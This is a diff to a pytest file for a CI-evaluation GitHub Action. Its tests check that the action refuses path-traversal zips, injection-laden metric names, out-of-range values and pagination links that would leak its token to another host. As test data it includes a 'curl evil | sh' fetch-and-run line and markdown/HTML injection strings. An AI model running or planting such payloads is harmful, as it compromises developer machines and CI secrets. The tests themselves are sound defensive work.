@@ -401,7 +401,7 @@ def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout
     hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
     exact, bad = add_push_run(gh, BASE, hostile, TWO_HOURS)
     newer, huge = add_push_run(gh, NEWER, base_zip, timedelta(days=1))
-    gh.state.artifacts[huge]["size"] = 30 * 1024 * 1024  # as listed: not worth downloading
+    gh.state.artifacts[huge]["size"] = 80 * 1024 * 1024  # as listed: not worth downloading
     _, good = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
 
     job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
@@ -412,7 +412,7 @@ def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout
         (f"ci-eval: warning: skipping the baseline from run {exact}: artifact ci-eval (id {bad})"
          f" of run {exact}: refusing a zip with a path-traversal member name '../../.bashrc'"),
         (f"ci-eval: warning: skipping the baseline from run {newer}: artifact ci-eval (id {huge})"
-         f" of run {newer}: the zip is 31457280 bytes, over the 20971520-byte limit"),
+         f" of run {newer}: the zip is 83886080 bytes, over the 67108864-byte limit"),
     ]
     downloads = [path for _, path in calls(gh) if path.endswith("/zip")]
     assert downloads == [f"/actions/artifacts/{bad}/zip", f"/actions/artifacts/{good}/zip"]
@@ -828,6 +828,7 @@ def test_the_poster_refuses_when_the_pull_request_moved_on(gh, fork_job, tmp_pat
     assert bodies(gh, FORK_PR) == []
     assert job.stderr.strip().splitlines() == [
         "ci-eval: posting the comment of the pull request run that triggered this workflow",
+        f"ci-eval: no comment posted for run {run_id}: its artifact was refused",
         (f"ci-eval: error: artifact ci-eval (id {artifact}) of run {run_id}:pr.json: pull request "
          f"#{FORK_PR} is at {moved_on[:7]}, but the run built {FORK_HEAD[:7]}: refusing to post "
          "another commit's results"),
@@ -920,3 +921,122 @@ def test_the_poster_leaves_a_same_repository_pr_its_run_commented_on(gh, checkou
     assert job.code == 0, job.stderr
     assert "its own run posted the comment" in job.stderr
     assert len(bodies(gh)) == posted
+
+
+# -- the poster and a hostile fork artefact ---------------------------------------------------
+
+HOSTILE_METRIC_NAMES = ("@acme/security-team", "[login](https://evil.example/p)", "<img src=x>")
+
+
+def _hostile_fork_bundle(fork_job: ForkJob, change) -> bytes:
+    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
+    head = json.loads(members["ci-eval-run.json"])
+    change(head)
+    members["ci-eval-run.json"] = json.dumps(head, sort_keys=True).encode()
+    return build_zip(members)
+
+
+def _rename_first_mean(head: dict, name: str) -> None:
+    means = head["summary"]["overall"]["means"]
+    first = next(iter(means))
+    head["summary"]["overall"]["means"] = {name if k == first else k: v for k, v in means.items()}
+    head["metrics"] = [name if m == first else m for m in head["metrics"]]
+
+
+@pytest.mark.parametrize("name", HOSTILE_METRIC_NAMES)
+def test_the_poster_refuses_a_fork_artefact_with_a_hostile_metric_name(gh, fork_job, tmp_path, name):
+    run_id, artifact = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, lambda h: _rename_first_mean(h, name)))
+
+    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
+                     sha=BASE, ref="refs/heads/main", mode="comment")
+
+    assert job.code == 2, job.stderr
+    assert bodies(gh, FORK_PR) == [] and ("POST", f"/issues/{FORK_PR}/comments") not in calls(gh)
+    source = f"artifact ci-eval (id {artifact}) of run {run_id}:ci-eval-run.json"
+    assert f"ci-eval: error: {source}:metrics[0]: not a metric ci-eval computes" in job.stderr
+    assert f"ci-eval: no comment posted for run {run_id}: its artifact was refused" in job.stderr
+    for text in (job.stdout, job.stderr, job.summary):
+        assert name not in text
+
+
+def test_the_poster_refuses_an_out_of_range_grade_and_metric_without_crashing(gh, fork_job, tmp_path):
+    def change(head):
+        head["questions"][0]["gold"] = {"alpha": 10 ** 400}
+        head["summary"]["overall"]["means"]["hit@1"] = -2.0
+
+    run_id, _ = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, change))
+
+    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
+                     sha=BASE, ref="refs/heads/main", mode="comment")
+
+    assert job.code == 2, job.stderr
+    assert "Traceback" not in job.stderr and bodies(gh, FORK_PR) == []
+    assert "ci-eval-run.json:questions[0].gold.alpha: 1000000000" in job.stderr
+    assert "is out of range (maximum 1000)" in job.stderr
+
+
+def test_a_pr_json_naming_no_pull_request_is_a_refused_artefact(gh, fork_job, tmp_path):
+    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
+    pr = json.loads(members["pr.json"])
+    members["pr.json"] = json.dumps({**pr, "number": 4040}).encode()
+    run_id, artifact = _fork_pr_run(gh, build_zip(members))
+
+    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
+                     sha=BASE, ref="refs/heads/main", mode="comment")
+
+    assert job.code == 2, job.stderr
+    assert (f"ci-eval: error: artifact ci-eval (id {artifact}) of run {run_id}:pr.json: names pull "
+            "request #4040, which does not exist") in job.stderr
+    assert bodies(gh, FORK_PR) == [] and bodies(gh, 4040) == []
+
+
+SPY = '''import json, os
+
+def search(question, k):
+    # What the user's code finds in its own process's environment.
+    with open("spy-env.json", "w") as fh:
+        json.dump(sorted(os.environ), fh)
+    return [("alpha", 1.0)]
+'''
+
+
+def test_a_python_retriever_runs_after_the_token_left_the_environment(gh, tmp_path):
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "gold.json").write_text(json.dumps(GOLD))
+    (project / "spy.py").write_text(SPY)
+    (project / "ci-eval.toml").write_text(
+        'gold_set = "gold.json"\nk = 1\n[retriever]\ntype = "python"\ntarget = "spy:search"\n')
+
+    job = run_action(gh, tmp_path, project, "push", push_event(BASE), sha=BASE, ref="refs/heads/main")
+
+    assert job.code == 0, job.stderr
+    names = set(json.loads((project / "spy-env.json").read_text()))
+    assert not {n for n in names if n.startswith("INPUT_") or n == "GITHUB_TOKEN"}, names
+    # What the job needs from the runner is still there.
+    assert {"GITHUB_REPOSITORY", "GITHUB_SHA", "PATH"} <= names
+
+
+@pytest.mark.parametrize("listing", ["runs", "comments"])
+def test_a_link_to_another_host_is_refused_and_the_run_still_writes_everything(
+        gh, checkout, tmp_path, listing):
+    for i in range(101):  # two pages: the answer carries a Link header
+        if listing == "runs":
+            add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
+        else:
+            gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
+    gh.link_base = gh.blob_url  # another host: it would receive the token
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    refusal = "GitHub's answer pointed its next page at localhost, not at the API host 127.0.0.1"
+    assert refusal in job.stderr and "Traceback" not in job.stderr
+    assert gh.blob_requests == []
+    assert (job.bundle / "ci-eval-run.json").is_file() and job.outputs["verdict"] == "pass"
+    assert verdict_line(job.summary).startswith("### ")
+    if listing == "runs":
+        assert job.code == 5  # the comparison the gate promised did not happen
+        assert baseline_line(job.summary).startswith("**Baseline:** none: GitHub failed while it was looked up")
+    else:
+        assert job.code == 0, job.stderr
+        assert "warning: the comment was not posted" in job.stderr
